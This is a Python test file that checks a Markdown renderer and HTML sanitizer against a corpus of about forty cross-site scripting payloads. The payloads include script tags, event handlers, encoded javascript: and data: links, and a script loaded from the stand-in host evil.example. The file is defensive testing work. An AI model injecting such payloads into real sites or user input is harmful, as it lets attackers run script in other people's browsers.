"""Markdown people write is rendered to HTML that can run nothing: an XSS payload corpus."""

from html.parser import HTMLParser

import pytest

from meridian.core.markdown import ALLOWED_TAGS, render_markdown, sanitize

# Payloads a hostile member might put into a brief, a comment or a summary.
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](javascript:alert(1))",
    '![img](x "onerror=alert(1)")',
    "[ref]\n\n[ref]: javascript:alert(1)",
    '<https://example.com/"onmouseover=alert(1)>',
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--<script>alert(1)</script>-->",
    '<a href="#" onclick="alert(1)">x</a>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
]

SAFE_SCHEMES = ("http:", "https:", "mailto:")


class Elements(HTMLParser):
    """The elements and attributes a browser would build from an HTML fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def harmless(html: str) -> bool:
    """Only allowed tags; no event handlers or styles; URLs only relative or http(s)/mailto."""
    for tag, attrs in Elements(html).found:
        if tag not in ALLOWED_TAGS:
            return False
        for name, value in attrs.items():
            if name.startswith("on") or name == "style":
                return False
            if name in ("href", "src"):
                url = "".join(ch for ch in value if ch.isprintable() and not ch.isspace()).lower()
                scheme = url.split("/", 1)[0]
                if ":" in scheme and not url.startswith(SAFE_SCHEMES):
                    return False
    return True


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_payload_survives_as_markup(payload):
    html = render_markdown(payload)
    assert harmless(html), html


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_no_payload_survives_the_sanitizer_alone(payload):
    """Even raw HTML (were Markdown ever to let it through) comes out of nh3 harmless."""
    html = sanitize(payload)
    assert harmless(html), html


def test_the_checker_catches_what_it_looks_for():
    assert not harmless('<a href=" JaVa&#09;script:alert(1)">x</a>')
    assert not harmless("<img src=x onerror=alert(1)>")
    assert not harmless("<svg></svg>")
    assert harmless('<p><a href="https://example.com">x</a></p>')


def test_raw_html_is_shown_as_text():
    assert render_markdown("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>\n"


def test_links_are_kept_and_marked_nofollow_noopener_noreferrer():
    html = render_markdown("[docs](https://example.com/a?b=1) and [page](/w/acme/briefs/)")
    assert html == (
        '<p><a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">docs</a> and '
        '<a href="/w/acme/briefs/" rel="noopener noreferrer nofollow">page</a></p>\n'
    )


def test_javascript_link_is_left_as_plain_text():
    assert render_markdown("[x](javascript:alert(1))") == "<p>[x](javascript:alert(1))</p>\n"


def test_data_url_image_is_left_as_plain_text():
    html = render_markdown("![x](data:image/png;base64,AAAA)")
    assert "<img" not in html


def test_ordinary_markdown_renders():
    text = "# Plan\n\n- **one**\n- *two*\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ `code`"
    html = render_markdown(text)
    for tag in ("<h1>", "<ul>", "<strong>", "<em>", "<table>", "<s>", "<code>"):
        assert tag in html


def test_empty_text_renders_to_nothing():
    assert render_markdown("  \n ") == ""


def test_only_the_given_handles_are_highlighted_as_mentions():
    html = render_markdown("@ada and @bob, see **@ada**", mentions=["Ada"])
    assert html == (
        '<p><span class="mention">@ada</span> and @bob, see '
        '<strong><span class="mention">@ada</span></strong></p>\n'
    )


def test_a_mention_cannot_smuggle_markup_or_other_classes():
    assert render_markdown("@ada", mentions=[]) == "<p>@ada</p>\n"
    assert 'class="evil"' not in sanitize('<span class="mention evil">x</span>')
    assert render_markdown('<span class="mention">@ada</span>', mentions=["ada"]).startswith(
        "<p>&lt;span"
    )
